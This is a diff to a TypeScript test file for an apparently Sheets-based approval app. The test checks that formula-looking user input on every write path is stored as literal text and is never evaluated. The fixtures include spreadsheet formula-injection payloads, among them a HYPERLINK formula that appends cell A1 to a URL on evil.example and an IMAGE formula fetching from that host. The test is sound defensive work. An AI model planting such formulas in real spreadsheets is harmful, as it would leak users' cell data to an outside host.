@@ -11,9 +11,19 @@ import { loadBundle, type Harness } from './harness';
 
 const OLGA = 'olga@acme.test';
 
-/** One of each kind Sheets would parse: a formula, a "+" or "-" formula, an "@" function call. */
-const HOSTILE = {
-  eq: '=HYPERLINK("https://evil.example/?"&A1,"click")',
+/**
+ * Text each path writes. The local Sheets parses only `=` as a formula (src/local/README.md), so every path writes
+ * an `=` text of its own, which a write without neutralising would turn into a formula here too; the `+`, `-` and
+ * `@` forms ride along in a request and must come back as the same text.
+ */
+const TEXT = {
+  item: '=HYPERLINK("https://evil.example/?"&A1,"click")',
+  comment: '=1+1',
+  resend: '=SUM(1,2)',
+  bulk: '=A1',
+  cancel: '=IMAGE("https://evil.example/x.png")',
+  person: '=CONCAT("a","b")',
+  workflow: '=TODAY()',
   plus: '+SUM(1,2)',
   minus: '-2+3',
   at: '@SUM(1,2)',
@@ -57,7 +67,7 @@ describe('formula-looking user text is stored as text on every path that writes 
   it('request fields, comments, reasons, a Directory entry and a workflow name', () => {
     const h = world();
     // A request from the sidebar, its text fields formula-looking.
-    const fields = { ...laptop, item: HOSTILE.eq, justification: HOSTILE.at, costCenter: 'Engineering' };
+    const fields = { ...laptop, item: TEXT.item, justification: TEXT.at, costCenter: 'Engineering' };
     const created = h.call<{ request: { id: string; revision: number } }>(
       'handoffCreateRequest',
       [{ workflowId: 'purchase-approval', fields }],
@@ -73,48 +83,50 @@ describe('formula-looking user text is stored as text on every path that writes 
     const item = work.items.find((i) => i.id === id)!;
     h.call(
       'handoffPanelAct',
-      [{ requestId: id, expectedRevision: item.revision, action: { type: 'approve', comment: HOSTILE.plus } }],
+      [{ requestId: id, expectedRevision: item.revision, action: { type: 'approve', comment: TEXT.comment } }],
       asMax,
     );
 
     // An operator's reasons: resend and a bulk reminder.
     const asOlga = { as: OLGA };
-    h.call('handoffPanelResend', [{ requestId: id, reason: HOSTILE.minus }], asOlga);
-    h.call('handoffPanelBulk', [{ requestIds: [id], op: 'remind', reason: HOSTILE.at }], asOlga);
+    h.call('handoffPanelResend', [{ requestId: id, reason: TEXT.resend }], asOlga);
+    h.call('handoffPanelBulk', [{ requestIds: [id], op: 'remind', reason: TEXT.bulk }], asOlga);
 
     // A second request, cancelled by its requester with a formula-looking reason.
     const second = h.call<{ request: { id: string; revision: number } }>(
       'handoffCreateRequest',
-      [{ workflowId: 'purchase-approval', fields: laptop }],
+      [{ workflowId: 'purchase-approval', fields: { ...laptop, item: TEXT.plus, justification: TEXT.minus } }],
       { as: RITA },
     );
     h.call(
       'handoffPanelAct',
-      [{ requestId: second.request.id, expectedRevision: second.request.revision, action: { type: 'cancel', reason: HOSTILE.eq } }],
+      [{ requestId: second.request.id, expectedRevision: second.request.revision, action: { type: 'cancel', reason: TEXT.cancel } }],
       {
         as: RITA,
       },
     );
 
     // The admin's panel: a person whose name looks like a formula, and a workflow named like one.
-    h.call('handoffPanelSavePerson', [{ email: 'new@acme.test', name: HOSTILE.eq, roles: [] }]);
-    h.call('handoffPanelPublishWorkflow', [{ definition: { ...purchaseApproval, name: HOSTILE.minus } }]);
+    h.call('handoffPanelSavePerson', [{ email: 'new@acme.test', name: TEXT.person, roles: [] }]);
+    h.call('handoffPanelPublishWorkflow', [{ definition: { ...purchaseApproval, name: TEXT.workflow } }]);
 
     expect(formulas(h)).toEqual([]);
-    // Sheets parses =, + and - (and the local Workspace only =): each must have been written with the quote prefix.
-    const held = cellsHolding(h, Object.values(HOSTILE));
-    expect(held.filter((c) => !c.quoted || c.formula)).toEqual([]);
+    // No cell holds any of them as a formula: each is the exact text (a quote prefix from setValues, or a string
+    // value from the data plane's batchUpdate).
+    const held = cellsHolding(h, Object.values(TEXT));
+    expect(held.filter((c) => c.formula)).toEqual([]);
     // And each landed where it belongs, as the exact text typed.
     const where = new Set(held.map((c) => `${c.tab}: ${c.text}`));
     expect([...where].sort()).toEqual(
       expect.arrayContaining([
-        `Requests: ${HOSTILE.eq}`, // the request's item, in its readable column
-        `Audit: ${HOSTILE.plus}`, // the approver's comment
-        `Audit: ${HOSTILE.minus}`, // the resend reason
-        `Audit: ${HOSTILE.at}`, // the bulk reminder's reason
-        `Audit: ${HOSTILE.eq}`, // the cancel reason
-        `Directory: ${HOSTILE.eq}`, // the person's name
-        `Config: ${HOSTILE.minus}`, // the workflow's name
+        `Requests: ${TEXT.item}`, // the request's item, in its readable column
+        `Requests: ${TEXT.plus}`, // the second request's item
+        `Audit: ${TEXT.comment}`, // the approver's comment
+        `Audit: ${TEXT.resend}`, // the resend reason
+        `Audit: ${TEXT.bulk}`, // the bulk reminder's reason
+        `Audit: ${TEXT.cancel}`, // the cancel reason
+        `Directory: ${TEXT.person}`, // the person's name
+        `Config: ${TEXT.workflow}`, // the workflow's name
       ]),
     );
   });
